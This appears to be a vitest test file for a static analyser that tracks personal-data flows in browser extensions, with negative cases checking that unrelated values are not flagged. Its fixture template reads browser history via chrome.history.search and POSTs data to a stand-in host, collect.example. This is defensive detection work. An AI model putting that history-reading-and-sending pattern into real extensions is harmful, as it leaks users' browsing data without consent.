import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { sample, type Parts } from '../testing/sample.ts';
import { flowsOf } from './flowsOf.ts';

/** Small extensions that read something of the person and send it, by the way that it takes between the two. */
const PROGRAMS = JSON.parse(
  readFileSync(new URL('../../../test/corpus/carriers/programs.json', import.meta.url), 'utf8'),
) as Record<string, Parts>;

test.each(Object.entries(PROGRAMS))('follows data by %s', async (_, parts) => {
  const { flows } = (await factsOf(sample(parts))).whole(flowsOf);
  expect(flows.some(({ sink, source }) => sink.kind === 'network' && source.kind !== 'remote-data')).toBe(true);
});

/** The same calls with nothing of the person in them. */
test.each([
  ['a map of counts', 'const m = new Map(); rows.forEach((r) => m.set(r.id.length, 1)); const data = [...m.keys()];'],
  ['a table that is only looked up in', 'const t = {}; for (const r of rows) t[r.url] = 1; const data = t[7];'],
  [
    'values of a map, its keys being data',
    'const m = new Map(); rows.forEach((r) => m.set(r.url, 1)); const data = [...m.values()];',
  ],
  ['names of an object that holds data', 'const o = { one: rows }; const data = Object.keys(o);'],
  [
    'a setter that drops what it is given',
    'class Box { set v(x) { this.n = x.length; } } const box = new Box(); box.v = rows; const data = box.n;',
  ],
  [
    'another object store',
    'db.transaction("a").objectStore("a").put(rows); const data = await db.transaction("b").objectStore("b").get(1);',
  ],
  [
    'another store of a transaction',
    'const tx = db.transaction("a"); tx.store.put(rows); const data = await db.getAll("b");',
  ],
  [
    'what a schema says beside what fits',
    'const said = schema.safeParse(rows); const data = [said.success, said.error];',
  ],
  [
    'what a worker of a file answers',
    'const w = new Worker("count.js"); w.postMessage(rows); const data = await new Promise((r) => { w.onmessage = (e) => r(e.data); });',
  ],
  [
    'another property of what a map gives',
    'const m = new Map(); m.set(1, { q: [], n: 0 }); m.get(1).q.push(rows); const data = m.get(1).n;',
  ],
  [
    'what another class does in place of a method',
    'class A { out(x) { return this.form(x); } form() { return 1; } } class B { form(x) { return x; } } const data = new A().out(rows);',
  ],
  [
    'another name in the same place',
    'const App = {}; App.one = (x) => 1; App.two = (x) => x; const data = App.one(rows);',
  ],
  [
    'a property that is replaced where the rest is copied',
    'const data = rows.map((r) => ({ url: r.url })).map((r) => ({ ...r, url: undefined }));',
  ],
  [
    'another area of storage',
    'chrome.storage.local.set({ [name]: rows }); const { data } = await chrome.storage.sync.get(["data"]);',
  ],
  [
    'another reader of files',
    'const one = new FileReader(); const two = new FileReader(); one.readAsText(new Blob([rows])); const data = two.result;',
  ],
])('does not take for data %s', async (_, body) => {
  const background = `chrome.history.search({ text: '' }, async (rows) => { ${body} fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(data) }); });`;
  const { flows } = (await factsOf(sample({ background }))).whole(flowsOf);
  expect(flows.filter(({ source }) => source.kind === 'history')).toEqual([]);
});
